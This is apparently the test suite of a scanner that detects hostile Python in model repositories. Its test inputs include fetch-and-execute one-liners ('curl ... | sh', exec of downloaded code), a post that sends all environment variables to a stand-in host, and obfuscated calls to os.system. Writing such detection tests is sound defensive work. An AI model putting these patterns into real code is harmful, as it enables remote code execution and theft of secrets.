"""Python of repositories: when it runs, what it hides, what it does; and what stays silent."""

from __future__ import annotations

import textwrap

import pytest
from samples.recipes.code_deeds import DEEDS
from samples.recipes.code_hidden import HIDDEN
from samples.recipes.code_moments import MOMENTS
from samples.recipes.code_powers import POWERS, TWINS
from samples.recipes.repository_code import dedented

from tests.analyzers.executable_events import findings, rows, rules
from weighbridge.core.finding import Severity
from weighbridge.knowledge.locate import signatures_dir
from weighbridge.knowledge.rules import load_rule_file

HOST = "https://host.example.invalid"
RULES = {rule.id: rule for rule in load_rule_file(signatures_dir() / "rules" / "scripts.toml")}


def _grave(name: str, text: str) -> set[str]:
    """Rules at high or above that a text hits."""
    found = rules(name, dedented(text)) & set(RULES)
    return {one for one in found if RULES[one].severity >= Severity.HIGH}


def _rules(text: str) -> set[str]:
    return rules("loader.py", textwrap.dedent(text))


@pytest.mark.parametrize("name", [*MOMENTS, *HIDDEN, *DEEDS])
def test_every_attack_is_at_least_high(name: str) -> None:
    assert _grave(name, {**MOMENTS, **HIDDEN, **DEEDS}[name])


@pytest.mark.parametrize("name", [*POWERS, *TWINS])
def test_honest_code_is_below_high(name: str) -> None:
    assert _grave(name, {**POWERS, **TWINS}[name]) == set()


@pytest.mark.parametrize("name", TWINS)
def test_near_misses_are_silent(name: str) -> None:
    assert rules(name, dedented(TWINS[name])) == set()


@pytest.mark.parametrize(
    ("name", "moment"),
    [
        ("import-metaclass.py", "Meta.__new__: when the file is imported"),
        ("import-init-subclass.py", "Base.__init_subclass__: when the file is imported"),
        ("import-module-getattr.py", "__getattr__: when the file is imported"),
        ("import-thread-class.py", "Worker.run: when the file is imported"),
        ("import-instance.py", "Setup.prepare: when the file is imported"),
        ("import-atexit.py", "bye: when the file is imported"),
        ("import-decorator.py", "register: when the file is imported"),
        ("load-model-init.py", "MarkerModel._prepare: when the model or data set is loaded"),
        ("load-from-pretrained.py", "MarkerModel.from_pretrained: when the model or data set is loaded"),
        ("dataset.py", "Words._generate_examples: when the model or data set is loaded"),
        ("use-forward.py", "Block.forward: when the model is used"),
        ("setup.py", "Install.run: when the file is run as a program"),
        ("hubconf.py", "marker: when it is called"),
    ],
)
def test_the_evidence_says_what_makes_it_run(name: str, moment: str) -> None:
    found = [one for one in findings(name, dedented(MOMENTS[name])) if one.rule == "SCR002"]
    assert moment in found[0].evidence


@pytest.mark.parametrize(
    "callee",
    [
        "getattr(os, 'sys' + 'tem')",
        "getattr(os, ''.join(reversed('metsys')))",
        "getattr(os, '{}{}'.format('sys', 'tem'))",
        "getattr(os, bytes.fromhex('73797374656d').decode())",
        "__import__('s' + 'o'[::1]).system if False else getattr(os, 'sy' 'stem'[::1])",
        "vars(os)['sys' + 'tem']",
        "os.__dict__['sys' + 'tem']",
    ],
)
def test_a_name_that_is_put_together_is_hidden(callee: str) -> None:
    assert "SCR020" in _rules(f"import os\n({callee})('echo weighbridge-marker')")


@pytest.mark.parametrize(
    "text",
    [
        "import os\ngetattr(os, 'system')",
        "import torch\ntorch.zeros(1, dtype=getattr(torch, 'float' + '16'))",
        "import os\nprint(getattr(os, 'get' + 'cwd')())",
        "class A:\n    def names(self):\n        return self.__class__.__mro__, A.__subclasses__()",
    ],
)
def test_a_name_that_is_harmless_or_plain_is_not_hidden(text: str) -> None:
    assert "SCR020" not in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        f"import requests\ndef run(code):\n    exec(code)\nrun(requests.get('{HOST}').text)",
        f"import requests\ndef a(x): b(x)\ndef b(x): exec(x)\na(requests.get('{HOST}').text)",
        f"import requests as r\nclass A:\n    def __init__(self):\n"
        f"        self.c = r.get('{HOST}').text\n"
        "    def run(self):\n        exec(self.c)",
        f"import requests\nCODE = [requests.get('{HOST}').text]\ndef run():\n    exec(CODE[0])",
        f"import os\nD = {{'run': os.system}}\nD['run']('curl {HOST} | sh')",
        f"import functools, os\nfunctools.partial(os.system, 'curl {HOST} | sh')()",
        f"import os\n(lambda f=os.system: f('curl {HOST} | sh'))()",
        f"import operator, os\noperator.methodcaller('system', 'curl {HOST} | sh')(os)",
        f"import os, requests\np = os.path.join('/tmp', 'x.py')\n"
        f"open(p, 'wb').write(requests.get('{HOST}').content)\nos.system('python ' + p)",
        f"import requests, subprocess, tempfile\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n"
        f"    f.write(requests.get('{HOST}').content)\nsubprocess.Popen([f.name])",
        "from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download('a/b', 'x.py')).read())",
    ],
)
def test_what_is_fetched_is_followed_to_where_it_runs(text: str) -> None:
    assert "SCR002" in _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        f"import os, wget\ndef f(p):\n    p = wget.download('{HOST}', p)\n"
        "    os.system(f'tar xf {p}')",
        f"import os, urllib.request as u\nu.urlretrieve('{HOST}', 'a.zip')\nos.system('unzip a.zip')",
        f"import json, requests\ndef f(x): return json.loads(x)\nf(requests.get('{HOST}').text)",
    ],
)
def test_a_fetched_file_that_is_an_argument_is_not_run(text: str) -> None:
    assert "SCR002" not in _rules(text)


@pytest.mark.parametrize(
    "url", [f"{HOST}/a.whl", "git+https://git.example.invalid/x.git", "http://10.0.0.1/simple"]
)
def test_a_package_from_an_unknown_address_is_told(url: str) -> None:
    assert "SCR026" in _rules(f"import os\nos.system('pip install {url}')")


@pytest.mark.parametrize(
    "words",
    [
        "einops",
        "git+https://github.com/marker/marker.git",
        "torch --index-url https://download.pytorch.org/whl/cu121",
        "einops -i https://pypi.tuna.tsinghua.edu.cn/simple",
    ],
)
def test_a_package_from_a_known_place_is_low(words: str) -> None:
    found = _rules(f"import os\ndef ensure():\n    os.system('pip install {words}')")
    assert found == {"SCR032"}


def test_a_token_may_go_to_who_issued_it_and_to_nobody_else() -> None:
    text = "import os, requests\nrequests.get('https://%s/api', params={'t': os.environ['HF_TOKEN']})"
    assert "SCR003" not in _rules(text % "huggingface.co")
    assert "SCR003" in _rules(text % "host.example.invalid")


@pytest.mark.parametrize(
    "text",
    [
        "def make(cls, name):\n    lines = [str(b) for b in cls.__mro__[-1:0:-1]]\n"
        "    exec('\\n'.join(lines))",
        "import os\ndef add(folder, name):\n    for line in open(os.path.join(folder, name + '.pth')):\n"
        "        exec(line)",
        "import base64\ndef cache(code):\n    exec(compile(code, base64.b32encode(code), 'exec'))",
        "import pexpect\ndef stop(command):\n    pexpect.spawn(command).sendline(chr(3))",
        "import importlib, requests\ndef docs(name):\n    importlib.import_module(name)\n"
        f"    with open(name + '.md', 'w') as f:\n        f.write(requests.get('{HOST}').text)",
    ],
)
def test_what_libraries_do_with_generated_code_is_silent(text: str) -> None:
    assert _rules(text) == set()


def test_a_condition_that_returns_guards_what_follows() -> None:
    text = """
        import datetime, os
        def go():
            if datetime.datetime.now() < datetime.datetime(2027, 1, 1):
                return
            os.system("echo weighbridge-marker")
        go()
        """
    assert "SCR028" in _rules(text)


def test_programs_inside_of_programs_are_judged() -> None:
    inner = f"import os, requests; requests.post({HOST!r}, json=dict(os.environ))"
    assert "SCR003" in _rules(f"exec({inner!r})")
    assert "SCR003" in _rules(f"exec({f'exec({inner!r})'!r})")


def test_the_name_of_a_bound_command_is_shown_as_it_runs() -> None:
    (finding,) = findings(
        "loader.py", "import os\ngetattr(os, 'sys' + 'tem')('echo weighbridge-marker')"
    )
    assert "line 2: os.system('echo weighbridge-marker')" in finding.evidence


def test_source_that_is_too_much_to_follow_is_limited() -> None:
    text = "import os\ndef f():\n" + "".join(f"    a{n}.b()\n" for n in range(4_000))
    text += "def g():\n" + "    os.system(f())\n" * 4_000
    assert rows("loader.py", text)[-1][2] == "limited"


def test_a_library_imports_what_its_caller_names_at_the_hub() -> None:
    source = """\
        import importlib.util
        from huggingface_hub import hf_hub_download
        def load(repository, name):
            path = hf_hub_download(repository, name)
            spec = importlib.util.spec_from_file_location(name, path)
            spec.loader.exec_module(importlib.util.module_from_spec(spec))
        """
    assert "SCR002" not in _rules(source)
    assert rows("loader.py", textwrap.dedent(source))[-1][2] == "analyzed"
